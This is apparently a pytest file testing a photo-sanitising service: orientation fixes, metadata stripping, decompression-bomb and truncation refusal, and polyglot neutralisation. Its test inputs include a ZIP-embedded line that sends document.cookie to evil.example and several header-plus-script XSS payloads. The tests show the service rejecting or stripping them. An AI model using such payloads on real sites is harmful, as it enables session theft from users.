"""Photo cleaning (service/imaging.py) on images made here with Pillow: orientation, metadata,
bombs, truncation, polyglots, formats and determinism."""

from __future__ import annotations

import io
import random
import struct
import time
import zipfile
import zlib
from concurrent.futures import ThreadPoolExecutor

import pillow_heif
import pytest
from PIL import Image, ImageCms, ImageFile
from service.domain_errors import DomainError
from service.errors import http_status
from service.imaging import CleanPhoto, clean_photo, sniff

MP40 = 40_000_000
MB10 = 10 * 1024 * 1024
RED, BLUE = (255, 0, 0), (0, 0, 255)
GPS_IFD = 0x8825
ORIENTATION = 0x0112


def clean(data: bytes, max_pixels: int = MP40) -> CleanPhoto:
    return clean_photo(data, max_pixels=max_pixels, max_bytes=MB10)


def refused(data: bytes, max_pixels: int = MP40) -> tuple[int, str]:
    with pytest.raises(DomainError) as info:
        clean(data, max_pixels)
    return http_status(info.value), info.value.code


def encode(image: Image.Image, fmt: str, **params: object) -> bytes:
    buf = io.BytesIO()
    image.save(buf, fmt, **params)
    return buf.getvalue()


def noise(size: tuple[int, int] = (160, 120), seed: int = 1) -> Image.Image:
    rng = random.Random(seed)
    return Image.frombytes("RGB", size, rng.randbytes(size[0] * size[1] * 3))


def red_left_blue_right(size: tuple[int, int] = (80, 40)) -> Image.Image:
    image = Image.new("RGB", size, RED)
    image.paste(BLUE, (size[0] // 2, 0, size[0], size[1]))
    return image


def exif_with_gps(orientation: int) -> Image.Exif:
    exif = Image.Exif()
    exif[ORIENTATION] = orientation
    exif[0x010F] = "PhoneMaker"
    gps = exif.get_ifd(GPS_IFD)
    gps[1], gps[2] = "N", (48.0, 51.0, 29.0)
    gps[3], gps[4] = "E", (2.0, 17.0, 40.0)
    return exif


def assert_pixels_only(data: bytes) -> None:
    image = Image.open(io.BytesIO(data))
    for key in ("exif", "xmp", "XML:com.adobe.xmp", "comment", "icc_profile", "Comment"):
        assert key not in image.info, key
    assert dict(image.getexif()) == {}
    for marker in (b"Exif\0\0", b"ns.adobe.com/xap", b"<script", b"PhoneMaker", b"PK\x03\x04"):
        assert marker not in data, marker


def near(a: tuple[int, ...], b: tuple[int, ...], tolerance: int = 12) -> bool:
    return all(abs(x - y) <= tolerance for x, y in zip(a, b, strict=True))


def png_declaring(width: int, height: int) -> bytes:
    """A few hundred bytes of PNG whose header claims width x height pixels."""

    def chunk(kind: bytes, payload: bytes) -> bytes:
        crc = struct.pack(">I", zlib.crc32(kind + payload))
        return struct.pack(">I", len(payload)) + kind + payload + crc

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\0" * 4096)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def test_exif_orientation_is_applied_and_gps_exif_xmp_comment_are_stripped() -> None:
    source = encode(
        red_left_blue_right(),
        "JPEG",
        exif=exif_with_gps(6),
        comment=b"shot at home",
        xmp=b'<x:xmpmeta xmlns:x="adobe:ns:meta/" xmlns:xap="http://ns.adobe.com/xap/1.0/"/>',
        quality=95,
    )
    given = Image.open(io.BytesIO(source))
    assert given.getexif().get_ifd(GPS_IFD)[1] == "N"  # the input really carries GPS
    assert given.size == (80, 40)

    out = clean(source)
    assert out.content_type == "image/jpeg"
    assert (out.width, out.height) == (40, 80)
    assert_pixels_only(out.data)
    upright = Image.open(io.BytesIO(out.data)).convert("RGB")
    assert upright.size == (40, 80)
    # Orientation 6 means "rotate 90 degrees clockwise to view": the left half goes on top.
    assert near(upright.getpixel((20, 10)), RED)  # type: ignore[arg-type]
    assert near(upright.getpixel((20, 70)), BLUE)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("orientation", "size", "top_left"),
    [(1, (80, 40), RED), (3, (80, 40), BLUE), (8, (40, 80), BLUE), (2, (80, 40), BLUE)],
)
def test_every_orientation_lands_upright(
    orientation: int, size: tuple[int, int], top_left: tuple[int, int, int]
) -> None:
    source = encode(red_left_blue_right(), "JPEG", exif=exif_with_gps(orientation), quality=95)
    upright = Image.open(io.BytesIO(clean(source).data)).convert("RGB")
    assert upright.size == size
    assert near(upright.getpixel((2, 2)), top_left)  # type: ignore[arg-type]


def test_decompression_bomb_is_refused_from_its_header_before_decoding() -> None:
    bomb = png_declaring(50_000, 50_000)
    assert len(bomb) < 200
    started = time.perf_counter()
    assert refused(bomb) == (422, "IMAGE_TOO_LARGE")
    assert time.perf_counter() - started < 0.5
    # Under Pillow's own bomb threshold (~89 MP) but over ours: our limit decides.
    assert refused(png_declaring(8000, 6000)) == (422, "IMAGE_TOO_LARGE")


def test_the_pixel_limit_is_inclusive_and_configurable() -> None:
    photo = encode(noise((40, 25)), "PNG")
    assert clean(photo, max_pixels=1000).width == 40
    assert refused(photo, max_pixels=999) == (422, "IMAGE_TOO_LARGE")


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP"])
def test_truncated_images_are_refused(fmt: str) -> None:
    whole = encode(noise((200, 150)), fmt)
    assert clean(whole).width == 200
    assert refused(whole[: len(whole) // 2]) == (400, "INVALID_IMAGE")


def test_truncated_images_stay_refused_by_pillow_itself() -> None:
    import service.app  # noqa: F401  (the whole gateway: nothing it imports may flip the flag)

    assert ImageFile.LOAD_TRUNCATED_IMAGES is False


def test_jpeg_with_a_zip_appended_is_neutralised_to_the_same_pixels() -> None:
    jpeg = encode(noise(), "JPEG", quality=90)
    payload = io.BytesIO()
    with zipfile.ZipFile(payload, "w") as archive:
        archive.writestr("payload.js", "fetch('//evil.example/?c='+document.cookie)")
    polyglot = jpeg + payload.getvalue()
    assert zipfile.is_zipfile(io.BytesIO(polyglot))  # really both a JPEG and a ZIP

    out = clean(polyglot)
    assert out.data == clean(jpeg).data  # only re-encoded pixels remain
    assert not zipfile.is_zipfile(io.BytesIO(out.data))
    assert b"payload.js" not in out.data
    assert_pixels_only(out.data)


@pytest.mark.parametrize(
    "data",
    [
        b"GIF89a/*<html><body><script>alert(document.cookie)</script></body></html>*/",
        encode(Image.new("RGB", (8, 8)), "GIF"),  # a real GIF: not an accepted type
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01" + b"<script>alert(1)</script>" * 40,
        b"\x89PNG\r\n\x1a\n<html><script>alert(1)</script></html>",
        b"RIFF\x20\x00\x00\x00WEBPVP8 <svg onload=alert(1)>",
        b"not an image at all",
        b"",
    ],
    ids=[
        "html-gif-header",
        "gif",
        "jpeg-header-script",
        "png-header-html",
        "webp-svg",
        "text",
        "empty",
    ],
)
def test_non_images_and_header_plus_script_files_are_refused(data: bytes) -> None:
    assert refused(data) == (400, "INVALID_IMAGE")


def test_png_text_chunks_and_icc_profiles_are_dropped() -> None:
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<script>alert(1)</script>")
    info.add_itxt("XML:com.adobe.xmp", '<x:xmpmeta xmlns:x="adobe:ns:meta/"/>')
    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    source = encode(Image.new("RGBA", (30, 20), (10, 120, 200, 128)), "PNG", pnginfo=info,
                    icc_profile=srgb)  # fmt: skip
    out = clean(source)
    assert out.content_type == "image/png"
    assert_pixels_only(out.data)
    pixel = Image.open(io.BytesIO(out.data)).getpixel((5, 5))
    assert isinstance(pixel, tuple)
    assert near(pixel, (10, 120, 200, 128), tolerance=2)  # alpha kept, colour unchanged


def test_an_unusable_colour_profile_is_dropped_and_the_pixels_kept() -> None:
    source = encode(Image.new("RGB", (16, 16), (90, 140, 60)), "JPEG", quality=95,
                    icc_profile=b"not a profile <script>" * 8)  # fmt: skip
    out = clean(source)
    assert_pixels_only(out.data)
    pixel = Image.open(io.BytesIO(out.data)).convert("RGB").getpixel((8, 8))
    assert near(pixel, (90, 140, 60))  # type: ignore[arg-type]


def test_cmyk_jpeg_comes_out_rgb() -> None:
    source = encode(Image.new("CMYK", (16, 16), (0, 255, 255, 0)), "JPEG")
    out = Image.open(io.BytesIO(clean(source).data))
    assert out.mode == "RGB"


@pytest.mark.parametrize(
    ("fmt", "params", "content_type"),
    [
        ("JPEG", {"quality": 80}, "image/jpeg"),
        ("PNG", {}, "image/png"),
        ("WEBP", {"quality": 80}, "image/webp"),
        ("WEBP", {"lossless": True}, "image/webp"),
    ],
)
def test_each_format_keeps_its_type_and_encodes_deterministically(
    fmt: str, params: dict[str, object], content_type: str
) -> None:
    source = encode(noise(), fmt, **params)
    assert sniff(source) == content_type
    first = clean(source)
    assert first.content_type == content_type
    with ThreadPoolExecutor(4) as pool:
        again = list(pool.map(lambda _: clean(source).data, range(8)))
    assert set(again) == {first.data}


def test_lossless_webp_stays_lossless() -> None:
    image = noise((64, 48))
    out = Image.open(io.BytesIO(clean(encode(image, "WEBP", lossless=True)).data))
    assert out.convert("RGB").tobytes() == image.tobytes()


def test_heic_is_decoded_and_stored_as_jpeg_without_metadata() -> None:
    pillow_heif.register_heif_opener()
    source = encode(red_left_blue_right(), "HEIF", exif=exif_with_gps(1), quality=90)
    assert sniff(source) == "image/heic"
    out = clean(source)
    assert out.content_type == "image/jpeg"
    assert_pixels_only(out.data)
    image = Image.open(io.BytesIO(out.data)).convert("RGB")
    assert image.size == (80, 40)
    assert near(image.getpixel((5, 5)), RED, tolerance=20)  # type: ignore[arg-type]
    assert clean(source).data == out.data


def test_a_photo_too_big_once_reencoded_is_refused() -> None:
    source = encode(noise((400, 300)), "PNG")
    with pytest.raises(DomainError) as info:
        clean_photo(source, max_pixels=MP40, max_bytes=len(source) // 4)
    assert (http_status(info.value), info.value.code) == (422, "IMAGE_TOO_LARGE")
